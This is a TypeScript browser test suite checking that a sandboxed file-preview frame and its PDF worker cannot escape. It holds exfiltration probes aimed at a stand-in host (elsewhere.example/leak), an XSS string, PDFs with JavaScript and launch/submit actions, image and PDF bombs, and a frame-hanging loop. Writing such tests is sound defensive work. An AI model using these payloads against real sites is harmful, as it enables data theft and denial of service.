/**
 * What a file could do if it took over the script of the frame that shows it, done there by hand; and files that try.
 * Everything that the browser sends goes through a recorder: it sees also what no tool inside the browser reports.
 */
import { deflateSync } from "node:zlib";
import fastify from "fastify";
import t, { type Test } from "tap";
import { waitUntil } from "../../../src/client/line/waiting.ts";
import { concat } from "../../../src/crypto/bytes.ts";
import { u } from "../../evidence/make/bytes.ts";
import { makePng } from "../../evidence/make/png.ts";
import { ONE_TILE } from "./heic.ts";
import { type PdfObject, makePdf, makeTextPdf } from "../support/pdf.ts";
import type { Harness } from "./preview-harness.ts";
import { type PreviewPage, type PreviewStage, setPreviewStage } from "./preview-stage.ts";
import { findForeign } from "../support/recorder.ts";
import { waitInPage } from "../support/wait.ts";

t.setTimeout(120_000);

const TEXT = Buffer.from("rapat pukul sepuluh");

for (const name of ["chromium", "firefox"] as const) {
  t.test(`a file attacks in ${name}`, async (t) => {
    const probe = `(${String(tryFromWorker)})("http://elsewhere.example/leak").then((reached) => postMessage(reached));`;
    const stage = await setPreviewStage(t, name, probe);

    await t.test("attack 31: a file that takes over its frame reaches neither the desk nor any address", async (t) => {
      const opened = await stage.open();
      const { page, show, inside } = opened;
      const leaks = watchLeaks(stage);
      let [dialogs, popups] = [0, 0];
      page.on("dialog", () => (dialogs += 1));
      page.on("popup", () => (popups += 1));
      await show(TEXT, { type: "text" });
      t.equal(await (await inside()).evaluate(() => self.origin), "null", "its origin is nobody's");
      t.same(await (await inside()).evaluate(tryEverything), [], "from the page for pictures, texts, sound and video");
      t.same(await reportsOf(opened), ["shown"], "forged messages to the desk's window change nothing");
      await show(makeTextPdf(["Satu"]), { type: "pdf" });
      t.same(await (await inside()).evaluate(tryEverything), [], "from the page for PDF");
      t.same(await reportsOf(opened), ["shown"]);
      await show(ONE_TILE, { type: "heic" });
      t.same(await (await inside()).evaluate(tryEverything), [], "from the page for HEIC");
      t.same(await reportsOf(opened), ["shown"]);
      for (const address of ["/preview?leak", "/desk?leak", "http://elsewhere.example/leak", "data:text/html,leak"]) {
        await show(TEXT, { type: "text" });
        await (await inside()).evaluate((to) => void (location.href = to), address).catch(() => {});
        await pause(200);
      }
      t.equal(page.url(), `${stage.origin}/harness`, "the desk is where it was");
      t.same({ dialogs, popups }, { dialogs: 0, popups: 0 });
      t.same(leaks(), [], "and no request left, of whatever kind and to whomever");
      await page.close();
    });

    await t.test("attack 31: the worker that reads PDF reaches nothing of the desk's and no address", async (t) => {
      const { page, show } = await stage.open();
      const leaks = watchLeaks(stage);
      await show(makeTextPdf(["Satu"]), { type: "pdf" });
      const [reader, ...more] = page.workers().filter((worker) => worker.url().includes("/a/pdf-reader."));
      t.equal(more.length, 0);
      if (reader === undefined) return t.fail("there is such a worker");
      // Firefox lets no tool act inside a worker of a page: there one with the same beginning and policy tries all by itself.
      const reached =
        name === "chromium"
          ? await reader.evaluate(tryFromWorker, "http://elsewhere.example/leak")
          : await (await stage.open()).page.evaluate(runTakenOver);
      t.same(reached, []);
      await pause(200);
      t.same(leaks(), []);
      await page.evaluate(() => (globalThis as unknown as Harness).closePreview());
      await waitUntil(() => !page.workers().includes(reader), { everyMs: 50, forMs: 30_000 });
      t.notOk(page.workers().includes(reader), "and it goes with the frame");
      return page.close();
    });

    await t.test("attack 31: no other origin can frame the previews or the desk, or hand them a file", async (t) => {
      const { page } = await stage.open();
      const paths = ["/preview", "/preview-pdf", "/preview-heif", "/desk", "/"];
      const frames = paths.map((path) => `<iframe src="${stage.origin}${path}"></iframe>`).join("");
      await page.goto(await serveElsewhere(t, frames));
      const answers = await page.evaluate(async () => {
        const heard: unknown[] = [];
        for (const { contentWindow } of document.querySelectorAll("iframe")) {
          const { port1, port2 } = new MessageChannel();
          port1.onmessage = ({ data }) => heard.push(data);
          contentWindow?.postMessage({ file: new Blob(["x"]), type: "text", language: "id" }, "*", [port2]);
        }
        await new Promise((resolve) => setTimeout(resolve, 400));
        return heard;
      });
      t.same(answers, []);
      const framed = page.frames().filter((frame) => frame !== page.mainFrame());
      const seen = framed.map((frame) => frame.evaluate(() => document.documentElement.innerHTML).catch(() => ""));
      t.equal(seen.length, paths.length);
      t.notMatch(
        (await Promise.all(seen)).join("\n"),
        /Segel|meja pemeriksa|Laporkan/u,
        "nothing of them arrives there",
      );
      for (const path of ["/preview", "/preview-pdf", "/preview-heif"]) {
        // Chromium refuses a sandboxed page that wants a window to itself; who shows it gives it nobody's origin.
        const isRefused = await page.goto(stage.origin + path).then(
          () => false,
          () => true,
        );
        if (!isRefused) t.equal(await page.evaluate(() => self.origin), "null", `${path}, opened by hand`);
      }
      await page.close();
    });

    const opened = await stage.open();
    const { page, show, inside } = opened;

    await t.test(
      "attack 32: markup, drawings with scripts and files of two kinds are texts, pictures or nothing",
      async (t) => {
        const leaks = watchLeaks(stage);
        const script = `<script>globalThis.ran = 1; fetch("${stage.origin}/leak")</script><img src="${stage.origin}/leak">`;
        const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="globalThis.ran=1">${script}</svg>`;
        const html = `<!doctype html><body onload="globalThis.ran=1">${script}`;
        for (const [type, text] of [
          ["html", html],
          ["svg", svg],
        ] as const) {
          t.equal(await show(Buffer.from(text), { type }), "shown", type);
          t.equal(await seenInside(opened), text, `${type} is a text`);
        }
        // What it is called decides nothing.
        t.not(await show(Buffer.from(html), { type: "png" }), "shown");
        t.not(await show(Buffer.from(svg), { type: "png" }), "shown");
        t.not(await show(Buffer.from(svg), { type: "pdf" }), "shown");
        t.not(await show(Buffer.from(html), { type: "mp4" }), "shown");
        t.not(await show(Buffer.from(`GIF89a=1;globalThis.ran=1;//${script}`), { type: "gif" }), "shown");
        for (const [type, bytes] of [
          ["png", makePng({ after: Buffer.from(html) })],
          ["pdf", concat(makeTextPdf(["Satu"]), Buffer.from(html))],
        ] as const) {
          t.equal(await show(bytes, { type }), "shown", `${type} and HTML`);
          t.equal(await (await inside()).evaluate(() => "ran" in globalThis), false);
        }
        t.equal(await page.evaluate(() => "ran" in globalThis), false);
        t.same(leaks(), []);
      },
    );

    await t.test("attack 32: a PDF with scripts, actions, forms and links is a picture of its pages", async (t) => {
      const leaks = watchLeaks(stage);
      t.equal(await show(makeActivePdf(`${stage.origin}/leak`), { type: "pdf" }), "shown");
      // The frame grows to the page's height, and where a scroll bar goes with it the page is drawn anew: pressed until it was.
      await (await inside()).locator("canvas").click();
      await page.keyboard.type("a\t\n");
      await pause(300);
      t.match(await seenInside(opened), /Halaman 1 dari 1/u, "the page is still seen");
      const pressable = "a, input, select, textarea, form, object, embed";
      t.equal(await (await inside()).$$eval(pressable, (all) => all.length), 0, "there is nothing to press in it");
      t.same(leaks(), []);
    });

    await t.test("attack 34: bombs are refused, drawn small or given up, and the desk goes on", async (t) => {
      const { show, inside, page } = await stage.open(hurry);
      const [pixels, strip] = [makePng({ width: 4, height: 4 }), makePng({ width: 4, height: 4 })];
      pixels.set(u(4, 100_000, 100_000), 16);
      t.equal(await show(pixels, { type: "png" }), "too-large", "10,000 megapixels");
      strip.set(u(4, 40_000, 1), 16);
      t.equal(await show(strip, { type: "png" }), "too-large", "a strip that no canvas takes");

      t.equal(await show(makeTextPdf(["x"], { box: "0 0 1000000 1000000" }), { type: "pdf" }), "shown");
      const area = await (await inside()).$eval("canvas", (canvas) => canvas.width * canvas.height);
      t.ok(area <= 16_000_000, `a page of a square kilometre is drawn on ${area} pixels`);
      t.ok(["shown", "unreadable"].includes(await show(makeNestedPdf(5_000), { type: "pdf" })), "pages within pages");
      t.ok(["shown", "unreadable"].includes(await show(makeCircularPdf(), { type: "pdf" })), "pages within themselves");

      await hasten({ page }, 30_000);
      const waits = watch(page);
      t.equal(await show(makeBusyPdf(), { type: "pdf" }), "too-slow", "five million commands in 20 kB");
      const longest = await waits();
      t.ok(longest < 2_000, `meanwhile the desk answered within ${Math.round(longest)} ms`);
      t.equal(await page.$("iframe"), null, "and the frame is gone with its workers");
    });
  });
}

t.test("a frame that hangs is taken away, one that lies is not believed, and each takes one file", async (t) => {
  const stage = await setPreviewStage(t, "chromium");

  await t.test("attack 34: a frame that hangs is taken away, and the desk says so", async (t) => {
    // Where a browser gives the frame no process of its own, its own script could stop the desk; PDF is read in workers.
    const { page, show, inside } = await stage.open(hurry);
    await show(TEXT, { type: "text" });
    const frame = await inside();
    await hasten({ page }, 15_000);
    // It is set with each sign of life.
    await pause(500);
    const waits = watch(page);
    const hang = () =>
      void setTimeout(() => {
        for (;;);
      }, 10);
    await frame.evaluate(hang);
    await waitInPage(page, () => (globalThis as unknown as Harness).reports.at(-1) === "silent");
    t.ok((await waits()) < 1_000, "the desk went on meanwhile");
    t.equal(await page.$("iframe"), null);
    await hasten({ page });
    t.equal(await show(TEXT, { type: "text" }), "shown", "and the next file is shown");
    await page.close();
  });

  await t.test("attack 31: through the port, too, what has another shape is nothing", async (t) => {
    const opened = await stage.open(() => {
      // Ahead of the frame's own script: as if it had been taken over from the beginning.
      if (location.pathname === "/preview")
        addEventListener("message", ({ ports }) => Object.assign(globalThis, { port: ports[0] }));
    });
    const { page, show, inside } = opened;
    await show(TEXT, { type: "text" });
    const lie = () => {
      const { port } = globalThis as unknown as { port: MessagePort };
      const html = "<img src=x onerror=alert(1)>";
      const words = [html, { says: html }, { says: "failed", why: html }, { says: "shown", height: html }, null, []];
      for (const word of words) port.postMessage(word);
      port.postMessage({ says: "shown", height: 1e12 });
      const second = { file: new Blob(["lain"]), type: "text", language: "id" };
      dispatchEvent(new MessageEvent("message", { data: second, origin: location.origin, ports: [port] }));
    };
    await (await inside()).evaluate(lie);
    await pause(200);
    t.same(await reportsOf(opened), ["shown"]);
    const share = await page.$eval(".preview-frame", (part) => part.getBoundingClientRect().height / innerHeight);
    t.ok(share > 0.5 && share <= 0.71, "however tall it says it is, it takes no more than its share");
    t.equal(await seenInside(opened), TEXT.toString(), "a second file is not taken");
  });
});

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

/** Runs inside the frame: every way out that we know. Names of those that led somewhere. */
async function tryEverything(): Promise<string[]> {
  const here = `${location.origin}/leak`;
  const elsewhere = "https://elsewhere.example/leak";
  const make = (name: string, attributes: Readonly<Record<string, string>>): HTMLElement => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    document.body.append(element);
    return element;
  };
  const loaded = (element: HTMLElement) =>
    new Promise((resolve) => element.addEventListener("load", () => resolve("reached")));
  const startsWorker = (url: string) =>
    new Promise((resolve) => (new Worker(url).onmessage = () => resolve("reached")));
  const form = (target: string) => (make("form", { action: here, target }) as HTMLFormElement).submit();
  const ways: Readonly<Record<string, () => unknown>> = {
    fetch: () => fetch(here).then(() => "reached"),
    "fetch elsewhere": () => fetch(elsewhere, { mode: "no-cors" }).then(() => "reached"),
    request: () =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.open("POST", here);
        request.onload = () => resolve("reached");
        request.send("x");
      }),
    beacon: () => void navigator.sendBeacon(here, "x"),
    socket: () =>
      new Promise((resolve) => (new WebSocket(here.replace("http", "ws")).onopen = () => resolve("reached"))),
    events: () => new Promise((resolve) => (new EventSource(here).onopen = () => resolve("reached"))),
    image: () => loaded(make("img", { src: here })),
    "style of an element": () => make("p", {}).style.setProperty("background", `url(${here})`),
    font: () => new FontFace("x", `url(${here})`).load().then(() => "reached"),
    film: () => make("video", { src: here, autoplay: "" }),
    sheet: () => loaded(make("link", { rel: "stylesheet", href: here })),
    hints: () =>
      ["prefetch", "preload", "modulepreload", "prerender", "icon", "manifest"].forEach((rel) =>
        make("link", { rel, href: elsewhere.replace("elsewhere", rel), as: "script" }),
      ),
    frame: () => void make("iframe", { src: here }),
    object: () => make("object", { data: here }),
    embed: () => make("embed", { src: here }),
    window: () => (window.open(here) === null ? "" : "reached"),
    "form on top": () => form("_top"),
    "form in place": () => form("_self"),
    "form in a window": () => form("_blank"),
    "link on top": () => make("a", { href: here, target: "_top" }).click(),
    "link with ping": () => make("a", { href: "#x", ping: here }).click(),
    download: () => make("a", { href: URL.createObjectURL(new Blob(["x"])), download: "leak.txt" }).click(),
    "top navigation": () => void (top!.location.href = here),
    "parent navigation": () => void (parent.location.href = here),
    dialog: () => alert("leak"),
    "desk's page": () => top!.document.body && "reached",
    "outer frame's page": () => parent.document.body && "reached",
    "frames beside": () => top!.frames[0]!.document.body && "reached",
    cookie: () => {
      document.cookie = "leak=1";
      return "reached";
    },
    storage: () => localStorage && "reached",
    "session storage": () => sessionStorage && "reached",
    database: () => new Promise((resolve) => (indexedDB.open("leak").onsuccess = () => resolve("reached"))),
    "private files": () => navigator.storage.getDirectory().then(() => "reached"),
    "service worker": () => navigator.serviceWorker.register(here).then(() => "reached"),
    worker: () => startsWorker(here),
    "worker of its own code": () => startsWorker(URL.createObjectURL(new Blob(["postMessage(1)"]))),
    policy: () =>
      ["segel-pdf", "segel-worker", "default"].some((one) => {
        const { trustedTypes } = globalThis as unknown as {
          trustedTypes: { createPolicy(name: string, rules: object): object };
        };
        try {
          return trustedTypes.createPolicy(one, { createScriptURL: (url: string) => url }) !== undefined;
        } catch {
          return false;
        }
      }) && "reached",
    script: () => {
      make("script", {}).textContent = "globalThis.ran = 1";
      return "ran" in globalThis && "reached";
    },
    "script with an address": () => loaded(make("script", { src: here })),
    markup: () => {
      document.body.innerHTML += "<img src=x onerror='globalThis.ran = 1'>";
      return "reached";
    },
    "between browsers": () => Object.getOwnPropertyNames(globalThis).some((name) => /RTC/u.test(name)) && "reached",
    clipboard: () => navigator.clipboard.readText().then(() => "reached"),
    position: () => new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve("reached"))),
    "forged messages": () => {
      for (const target of [parent, top!])
        for (const word of [{ says: "failed", why: "encrypted" }, { says: "leave" }, { says: "shown", height: 9 }])
          target.postMessage(word, "*");
    },
  };
  const reached = await Promise.all(
    Object.entries(ways).map(async ([name, way]) => {
      const patience = new Promise((resolve) => setTimeout(resolve, 400));
      try {
        return (await Promise.race([way(), patience])) === "reached" ? [name] : [];
      } catch {
        return [];
      }
    }),
  );
  return reached.flat();
}

/** Runs in the worker that reads PDF, as if a file had taken it over; tells what it reached. */
async function tryFromWorker(elsewhere: string): Promise<string[]> {
  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(location.origin).then(() => "reached"),
    elsewhere: () => fetch(elsewhere, { mode: "no-cors" }).then(() => "reached"),
    script: () => import(`${location.origin}/a/x.js`).then(() => "reached"),
    database: () => new Promise((resolve) => (indexedDB.open("leak").onsuccess = () => resolve("reached"))),
    caches: () => caches.open("leak").then(() => "reached"),
    "private files": () => navigator.storage.getDirectory().then(() => "reached"),
    locks: () => navigator.locks.request("leak", () => "reached"),
    tabs: () => (new BroadcastChannel("leak").name === "leak" ? "reached" : ""),
    worker: () => (new Worker(location.href) instanceof Worker ? "reached" : ""),
    "what it took away": () =>
      ["indexedDB", "caches", "BroadcastChannel"].some((name) => Reflect.has(globalThis, name)) && "reached",
  };
  const reached = await Promise.all(
    Object.entries(ways).map(async ([name, way]) => {
      const patience = new Promise((resolve) => setTimeout(resolve, 400));
      try {
        return (await Promise.race([way(), patience])) === "reached" ? [name] : [];
      } catch {
        return [];
      }
    }),
  );
  return reached.flat();
}

/** Runs in a page with the desk's policy that has started no worker yet, as the desk starts one; what that one tells. */
function runTakenOver(): Promise<unknown> {
  type Factory = { createPolicy(name: string, rules: object): { createScriptURL(url: string): string } };
  const { trustedTypes } = globalThis as { trustedTypes?: Factory };
  const rules = { createScriptURL: (url: string) => url };
  const url = (trustedTypes?.createPolicy("segel-worker", rules) ?? rules).createScriptURL("/taken-over.js");
  return new Promise((resolve, reject) => {
    const worker = new Worker(url, { type: "module" });
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = () => reject(new Error("it did not start"));
  });
}

/** Of the preview, ms: a sign of life, its silence, its first word. */
type Clock = 2_000 | 15_000 | 30_000;

/**
 * Ahead of any script, in the desk and in the frame: clocks of the preview run ten times as fast. The frame's does always;
 * one of the desk's when it is to run out (`hasten`): a busy machine needs its time for what is to be shown.
 */
function hurry(): void {
  const [later, again] = [globalThis.setTimeout, globalThis.setInterval];
  const hasty = () => (globalThis as { hasty?: Clock }).hasty;
  const quick = (ms = 0) => (ms === 2_000 || ms === hasty() ? ms / 10 : ms);
  Object.assign(globalThis, {
    setTimeout: (what: () => void, ms?: number) => later(what, quick(ms)),
    setInterval: (what: () => void, ms?: number) => again(what, quick(ms)),
  });
}

/** The next time that it is set. */
async function hasten({ page }: Pick<PreviewPage, "page">, clock?: Clock): Promise<void> {
  await page.evaluate((hasty) => void Object.assign(globalThis, { hasty }), clock);
}

/** Asks the desk again and again; its end tells how long the longest answer took, ms. */
function watch(page: PreviewPage["page"]): () => Promise<number> {
  let isOver = false;
  const watching = (async () => {
    let longest = 0;
    while (!isOver) {
      const asked = performance.now();
      await page.evaluate(() => 1);
      longest = Math.max(longest, performance.now() - asked);
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    return longest;
  })();
  return () => {
    isOver = true;
    return watching;
  };
}

/** From now on: requests that tell something or go elsewhere. The pages' own are no leak. */
function watchLeaks({ recorder, origin }: PreviewStage): () => string[] {
  const before = recorder.requests.length;
  return () => {
    const since = recorder.requests.slice(before);
    const told = since.filter(
      ({ url, method }) => url.startsWith(origin) && (url.includes("leak") || method === "POST"),
    );
    return [...told.map(({ method, url }) => `${method} ${url}`), ...findForeign(since, origin)];
  };
}

function reportsOf({ page }: PreviewPage): Promise<string[]> {
  return page.evaluate(() => (globalThis as unknown as Harness).reports);
}

/** What is said to be shown may be laid out a moment later. */
async function seenInside({ inside }: PreviewPage): Promise<string> {
  const drawn = await waitInPage(await inside(), () => document.body.innerText, { timeout: 10_000 });
  return (await drawn.jsonValue()) ?? "";
}

async function serveElsewhere(t: Pick<Test, "teardown">, body: string): Promise<string> {
  const app = fastify();
  app.get("/", async (_request, reply) => reply.type("text/html").send(`<!doctype html><body>${body}`));
  t.teardown(() => {
    app.server.closeAllConnections();
    return app.close();
  });
  return app.listen({ host: "127.0.0.1", port: 0 });
}

function makeBusyPdf(): Uint8Array {
  return onePage({ dictionary: "/Filter /FlateDecode", stream: deflateSync("q Q ".repeat(5_000_000)) });
}

function onePage(content: PdfObject): Uint8Array {
  return makePdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
    content,
  ]);
}

/** A page under so many nodes, and as many arrays in one another. */
function makeNestedPdf(depth: number): Uint8Array {
  const nodes = Array.from({ length: depth }, (_, at) => `<< /Type /Pages /Kids [${at + 3} 0 R] /Count 1 >>`);
  const page = `<< /Type /Page /MediaBox [0 0 595 842] /Deep ${"[".repeat(depth)}${"]".repeat(depth)} >>`;
  return makePdf(["<< /Type /Catalog /Pages 2 0 R >>", ...nodes, page]);
}

/** All that could make something happen: on opening, closing, a press, a key. */
function makeActivePdf(leak: string): Uint8Array {
  const script = `/S /JavaScript /JS (this.ran = 1; app.launchURL\\("${leak}"\\); this.submitForm\\("${leak}"\\);)`;
  const whole = "/Rect [0 0 595 842] /F 4";
  const form = `/Subtype /Widget ${whole} /FT`;
  return makeTextPdf(["Kuitansi"], {
    catalogue:
      `/OpenAction << ${script} >> /AA << /WC << ${script} >> >> /Names << /JavaScript << /Names [(a) << ${script} >>] >> >> ` +
      "/AcroForm << /Fields [7 0 R 8 0 R] /NeedAppearances true >>",
    page: `/AA << /O << /S /URI /URI (${leak}) >> >> /Annots [6 0 R 7 0 R 8 0 R 9 0 R]`,
    more: [
      `<< /Type /Annot /Subtype /Link ${whole} /A << /S /URI /URI (${leak}) >> >>`,
      `<< /Type /Annot ${form} /Tx /T (nama) /V (x) /AA << /E << ${script} >> /K << ${script} >> >> >>`,
      `<< /Type /Annot ${form} /Btn /Ff 65536 /T (kirim) /A << /S /SubmitForm /F << /FS /URL /F (${leak}) >> >> >>`,
      `<< /Type /Annot /Subtype /Link ${whole} /A << /S /Launch /F << /FS /URL /F (${leak}) >> >> >>`,
    ],
  });
}

function makeCircularPdf(): Uint8Array {
  return makePdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"]);
}
